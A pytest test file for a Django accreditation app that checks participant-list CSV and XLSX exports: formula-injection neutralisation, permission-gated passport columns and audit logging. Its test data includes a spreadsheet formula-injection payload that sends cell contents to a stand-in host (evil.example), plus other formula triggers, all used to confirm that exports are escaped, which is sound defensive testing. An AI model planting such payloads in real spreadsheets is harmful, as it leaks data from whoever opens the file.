"""CSV and XLSX exports of the participant list: filters, formula injection, passport columns, audit."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from majlis.accreditation.models import Application
from majlis.core.models import AuditEntry
from majlis.core.spreadsheets import safe_cell, safe_row
from majlis.events.models import EventRole
from tests.factories import make_accreditation_event, make_application, make_role, make_user

pytestmark = [pytest.mark.django_db]

S = Application.Status
INJECTIONS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1", "-2", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def url(event):
    with translation.override("en"):
        return reverse("events:accreditation-manage:export", kwargs={"event": event.slug})


@pytest.fixture
def event():
    return make_accreditation_event()


@pytest.fixture
def organiser(event):
    return make_role(event, EventRole.Role.ORGANISER_ADMIN).user


@pytest.fixture
def officer(event):
    user = make_role(event, EventRole.Role.ORGANISER_ADMIN).user
    make_role(event, EventRole.Role.SECURITY_OFFICER, user=user)  # passport numbers are the security officer's
    return user


@pytest.fixture
def applications(event):
    return [
        make_application(
            event,
            family_name="Ivanov",
            given_names="Ivan",
            name_native="Иван Иванов",
            status=S.APPROVED,
            passport_number="N11111111",
            nationality="KZ",
            gender="male",
        ),
        make_application(
            event,
            family_name="Li",
            given_names="Wei",
            name_native="李伟",
            status=S.SUBMITTED,
            nationality="CN",
            passport_number="E22222222",
            organisation_name='=HYPERLINK("https://evil.example/?"&A1,"click")',
            position="+1",
            phone="+998 71 123 45 67",
            dietary_needs="-2",
            interpretation_needs="@SUM(A1:A9)",
        ),
    ]


def read_csv(response) -> list[list[str]]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def read_xlsx(response) -> list[list]:
    workbook = load_workbook(io.BytesIO(response.content))
    sheet = workbook.active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


# --- safe_cell ------------------------------------------------------------------------------------


@pytest.mark.parametrize("value", INJECTIONS)
def test_safe_cell_neutralises_formula_triggers(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Ivanov", "Иванов", "李伟", "", "a=b", "1+1", " =x"])
def test_safe_cell_leaves_plain_text_alone(value):
    assert safe_cell(value) == value


def test_safe_cell_keeps_numbers_dates_and_none():
    from datetime import date

    assert safe_row([-2, 3.5, None, True, date(2022, 3, 3)]) == [-2, 3.5, None, True, date(2022, 3, 3)]


# --- CSV ------------------------------------------------------------------------------------------


def test_export_csv_parses_with_names_in_every_script_and_no_passport_by_default(
    client, event, organiser, applications
):
    client.force_login(organiser)
    response = client.post(url(event), {"format": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment;" in response["Content-Disposition"] and ".csv" in response["Content-Disposition"]
    assert "no-store" in response["Cache-Control"]
    rows = read_csv(response)
    header, *body = rows
    assert len(body) == 2
    assert "Passport number" not in header and "Passport expiry date" not in header
    assert "Gender" not in header
    flat = "\n".join(",".join(row) for row in rows)
    assert "Иван Иванов" in flat and "李伟" in flat
    assert "N11111111" not in flat and "E22222222" not in flat
    assert "male" not in [cell for row in body for cell in row]


def test_export_csv_neutralises_formula_injection(client, event, organiser, applications):
    client.force_login(organiser)
    rows = read_csv(client.post(url(event), {"format": "csv"}))
    header, *body = rows
    li = next(row for row in body if row[header.index("Family name")] == "Li")
    assert li[header.index("Organisation")] == "'" + INJECTIONS[0]
    assert li[header.index("Position")] == "'+1"
    assert li[header.index("Dietary needs")] == "'-2"
    assert li[header.index("Interpretation needs")] == "'@SUM(A1:A9)"
    assert li[header.index("Phone")] == "'+998 71 123 45 67"
    for row in body:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_export_follows_the_list_filters(client, event, organiser, applications):
    client.force_login(organiser)
    rows = read_csv(client.post(url(event), {"format": "csv", "query": "status=approved"}))
    assert [row[rows[0].index("Family name")] for row in rows[1:]] == ["Ivanov"]
    rows = read_csv(client.post(url(event), {"format": "csv", "query": "q=李"}))
    assert [row[rows[0].index("Family name")] for row in rows[1:]] == ["Li"]


# --- XLSX -----------------------------------------------------------------------------------------


def test_export_xlsx_opens_with_openpyxl_and_holds_text_not_formulas(client, event, organiser, applications):
    client.force_login(organiser)
    response = client.post(url(event), {"format": "xlsx"})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    rows = read_xlsx(response)
    header, *body = rows
    assert len(body) == 2
    assert "Passport number" not in header
    li = next(row for row in body if row[header.index("Family name")] == "Li")
    assert li[header.index("Name in own script")] == "李伟"
    assert li[header.index("Organisation")] == "'" + INJECTIONS[0]
    assert li[header.index("Position")] == "'+1"
    workbook = load_workbook(io.BytesIO(response.content))
    for row in workbook.active.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate


# --- Passport data --------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_passport_columns_only_with_permission_and_checkbox(client, event, officer, applications, fmt):
    client.force_login(officer)
    reader = read_csv if fmt == "csv" else read_xlsx
    without = reader(client.post(url(event), {"format": fmt}))
    assert "Passport number" not in without[0]
    with_passport = reader(client.post(url(event), {"format": fmt, "include_passport": "on"}))
    header, *body = with_passport
    assert {"Passport number", "Passport expiry date", "Passport issued by"} <= set(header)
    numbers = {row[header.index("Family name")]: row[header.index("Passport number")] for row in body}
    assert numbers == {"Ivanov": "N11111111", "Li": "E22222222"}


def test_export_passport_data_refused_without_the_permission(client, event, organiser, applications):
    client.force_login(organiser)
    response = client.post(url(event), {"format": "csv", "include_passport": "on"})
    assert response.status_code == 403
    assert not AuditEntry.objects.filter(action="accreditation.exported").exists()


def test_export_list_page_offers_the_passport_checkbox_only_to_permitted_users(client, event, organiser, officer):
    with translation.override("en"):
        address = reverse("events:accreditation-manage:list", kwargs={"event": event.slug})
    client.force_login(organiser)
    assert "include_passport" not in client.get(address).content.decode()
    client.force_login(officer)
    html = client.get(address).content.decode()
    assert 'name="include_passport"' in html
    assert 'name="include_passport" checked' not in html  # off by default


def test_export_superuser_may_include_passport_data(client, event, applications):
    client.force_login(make_user(is_superuser=True))
    rows = read_csv(client.post(url(event), {"format": "csv", "include_passport": "on"}))
    assert "Passport number" in rows[0]


# --- Audit ----------------------------------------------------------------------------------------


def test_export_is_audited_with_filters_and_row_count(client, event, officer, applications):
    client.force_login(officer)
    client.post(url(event), {"format": "xlsx", "query": "status=approved&q=Ivanov", "include_passport": "on"})
    entry = AuditEntry.objects.get(action="accreditation.exported")
    assert entry.actor == officer
    assert entry.event_slug == event.slug
    assert entry.data["format"] == "xlsx"
    assert entry.data["rows"] == 1
    assert entry.data["filters"] == {"status": ["approved"], "q": "Ivanov"}
    assert entry.data["passport_data"] is True
    assert entry.data["passport_numbers_of"] == [applications[0].pk]  # whose numbers are in the file
    assert "N11111111" not in str(entry.data)


def test_export_without_passport_data_is_audited_as_such(client, event, organiser, applications):
    client.force_login(organiser)
    client.post(url(event), {"format": "csv"})
    entry = AuditEntry.objects.get(action="accreditation.exported")
    assert entry.data["passport_data"] is False and entry.data["rows"] == 2
    assert entry.data["passport_numbers_of"] == []


def test_export_with_an_unknown_format_goes_back_to_the_list(client, event, organiser):
    client.force_login(organiser)
    response = client.post(url(event), {"format": "pdf"})
    assert response.status_code == 302
    assert not AuditEntry.objects.filter(action="accreditation.exported").exists()


@pytest.mark.parametrize("role", [EventRole.Role.JOURNALIST, EventRole.Role.FOCAL_POINT, EventRole.Role.PARTICIPANT])
def test_export_refused_to_other_roles(client, event, applications, role):
    user = make_role(event, role).user
    client.force_login(user)
    assert client.post(url(event), {"format": "csv", "include_passport": "on"}).status_code == 403
